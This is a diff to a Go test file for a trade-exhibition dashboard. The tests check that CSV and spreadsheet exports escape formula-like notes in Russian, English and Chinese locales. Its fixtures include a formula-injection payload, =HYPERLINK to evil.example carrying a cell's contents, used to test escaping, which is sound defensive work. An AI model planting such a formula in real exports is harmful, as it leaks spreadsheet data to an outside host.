@@ -22,19 +22,27 @@ import (
 // tricky are figures whose every text and number tests the round trip:
 // notes a spreadsheet would run as formulas, an apostrophe already there,
 // a value with three decimals (which a Russian CSV must not turn into
-// thousands), every qualifier and status, the whole exhibition.
+// thousands), every qualifier and status, the whole exhibition, bases, a
+// certificate that looks like a formula, and a figure with two claims, the
+// press's marked preferred.
 func tricky() []tradedash.Figure {
 	fig := func(ex, country, metric string, year int, v float64, q tradedash.Qualifier, s tradedash.Status, note string) tradedash.Figure {
 		return tradedash.Figure{Exhibition: ex, Country: country, Metric: metric, Year: year, Value: v,
 			Qualifier: q, Status: s, Source: "https://example.org/report?a=1&b=<2>", Note: note}
 	}
+	organiser := fig("innoprom", "CN", "exhibitors", 2023, 400, tradedash.Over, tradedash.Actual, `=HYPERLINK("http://evil.example/?"&A1,"click")`)
+	organiser.Basis = tradedash.Organiser
+	press := fig("innoprom", "CN", "exhibitors", 2023, 370, tradedash.Over, tradedash.Actual, "")
+	press.Basis, press.Preferred, press.Source = tradedash.Press, true, "https://ura.news/news/1052665568"
+	audited := fig("innoprom", "CN", "net_space_m2", 2023, 1.234, tradedash.Exact, tradedash.Actual, "+7 495 000-00-00")
+	audited.Basis, audited.Certificate = tradedash.Audited, "=RUEF-7"
+	estimate := fig("innoprom", "CN", "net_space_m2", 2024, 3800.5, tradedash.About, tradedash.Forecast, "-10% against 2023")
+	estimate.Basis = tradedash.Estimate
 	return []tradedash.Figure{
-		fig("innoprom", "CN", "companies", 2023, 400, tradedash.Over, tradedash.Actual, `=HYPERLINK("http://evil.example/?"&A1,"click")`),
-		fig("innoprom", "CN", "area_m2", 2023, 1.234, tradedash.Exact, tradedash.Actual, "+7 495 000-00-00"),
-		fig("innoprom", "CN", "area_m2", 2024, 3800.5, tradedash.About, tradedash.Forecast, "-10% against 2023"),
+		organiser, press, audited, estimate,
 		fig("innoprom", "CN", "visitors", 2024, 50000, tradedash.Under, tradedash.Planned, "@SUM(A1:A9)"),
-		fig("innoprom", "ALL", "countries", 2024, 60, tradedash.Exact, tradedash.Actual, "''=typed with two apostrophes"),
-		fig("russia_china_expo", "ALL", "area_m2", 2025, 10000, tradedash.Exact, tradedash.Actual, "'an apostrophe of the user's"),
+		fig("innoprom", "ALL", "countries_reported", 2024, 60, tradedash.Exact, tradedash.Actual, "''=typed with two apostrophes"),
+		fig("russia_china_expo", "ALL", "space_reported_m2", 2025, 10000, tradedash.Exact, tradedash.Actual, "'an apostrophe of the user's"),
 		fig("innoprom", "KZ", "delegations", 2022, 12, tradedash.Exact, tradedash.Actual, ""),
 		fig("innoprom", "CN", "agreements", 2021, 0.5e3, tradedash.Exact, tradedash.Actual, "a note, with; separators \"and quotes\""),
 	}
@@ -75,19 +83,24 @@ func TestCSV(t *testing.T) {
 		sep  rune
 		want []string
 	}{
-		{locale.RU, 0, []string{"Год;Выставка;Страна;Показатель;Значение;Точность;Статус;Источник;Примечание;Импорт\r\n",
-			"2023;ИННОПРОМ;Китай;Площадь, м²;1,2340;;факт;", ";'+7 495 000-00-00;", "2024;ИННОПРОМ;Китай;Площадь, м²;3800,5;около;прогноз;",
+		{locale.RU, 0, []string{"Год;Выставка;Страна;Показатель;Значение;Точность;Статус;Основание;Сертификат;Предпочтительный;Источник;Примечание;Импорт\r\n",
+			"2023;ИННОПРОМ;Китай;Площадь нетто, м²;1,2340;;факт;аудит;'=RUEF-7;;", ";'+7 495 000-00-00;",
+			"2024;ИННОПРОМ;Китай;Площадь нетто, м²;3800,5;около;прогноз;оценка;;;",
+			"2023;ИННОПРОМ;Китай;Экспоненты;370;более;факт;СМИ;;да;https://ura.news/news/1052665568;;",
+			"2023;ИННОПРОМ;Китай;Экспоненты;400;более;факт;организатор;;;",
 			`;"'=HYPERLINK(""http://evil.example/?""&A1,""click"")";`, ";''=typed with two apostrophes;", ";'an apostrophe of the user's;",
 			"Все страны", "Российско-Китайское ЭКСПО"}},
-		{locale.EN, 0, []string{"Year,Exhibition,Country,Metric,Value,Qualifier,Status,Source,Note,Import\r\n",
-			`2023,INNOPROM,China,"Area, m²",1.2340,,actual,`, ",'@SUM(A1:A9),", ",at most,planned,", "All countries"}},
+		{locale.EN, 0, []string{"Year,Exhibition,Country,Metric,Value,Qualifier,Status,Basis,Certificate,Preferred,Source,Note,Import\r\n",
+			`2023,INNOPROM,China,"Net space, m²",1.2340,,actual,audited,'=RUEF-7,,`, ",'@SUM(A1:A9),", ",at most,planned,,,,", "All countries",
+			",over,actual,press,,yes,"}},
 		// Chinese: the headers and words of the dashboard (and of the
 		// importer), commas and decimal points as Chinese Excel reads them.
-		{locale.ZH, 0, []string{"年份,展会,国家,指标,数值,精确度,状态,来源,备注,导入\r\n",
-			"2023,叶卡捷琳堡国际工业博览会,中国,面积，平方米,1.2340,,实际,", "2024,叶卡捷琳堡国际工业博览会,中国,面积，平方米,3800.5,约,预测,",
+		{locale.ZH, 0, []string{"年份,展会,国家,指标,数值,精确度,状态,数据依据,审计证书,首选,来源,备注,导入\r\n",
+			"2023,叶卡捷琳堡国际工业博览会,中国,净面积，平方米,1.2340,,实际,经审计,'=RUEF-7,,", "2024,叶卡捷琳堡国际工业博览会,中国,净面积，平方米,3800.5,约,预测,估算,",
+			",超过,实际,媒体报道,,是,",
 			",至多,计划,", ",超过,实际,", "所有国家", "中俄博览会"}},
-		{locale.RU, ',', []string{"Год,Выставка", `"Площадь, м²",1.2340,`}},
-		{locale.EN, ';', []string{"Year;Exhibition", ";Area, m²;1,2340;"}},
+		{locale.RU, ',', []string{"Год,Выставка", `"Площадь нетто, м²",1.2340,`}},
+		{locale.EN, ';', []string{"Year;Exhibition", ";Net space, m²;1,2340;"}},
 	} {
 		rep := rep(t, r, Request{Page: PageData, Lang: c.lang})
 		var buf bytes.Buffer
@@ -157,8 +170,8 @@ func TestRoundTrip(t *testing.T) {
 	rows := rowsOf(t, f, "Данные")
 	notes := map[string]bool{}
 	for i, row := range rows[1:] {
-		if len(row) > 8 && row[8] != "" {
-			notes[text(t, f, "Данные", cell(1+8, i+2))] = true
+		if len(row) > dataColNote && row[dataColNote] != "" {
+			notes[text(t, f, "Данные", cell(1+dataColNote, i+2))] = true
 		}
 	}
 	for _, fig := range tricky() {
@@ -228,6 +241,9 @@ func TestOnlyWebLinks(t *testing.T) {
 	f := openXLSX(t, path)
 	links := 0
 	for i, row := range rowsOf(t, f, "Sources")[3:] {
+		if len(row) == 0 { // the end of the list; the claims follow
+			break
+		}
 		got := text(t, f, "Sources", cell(2, i+4))
 		want, known := sources[got]
 		if !known {
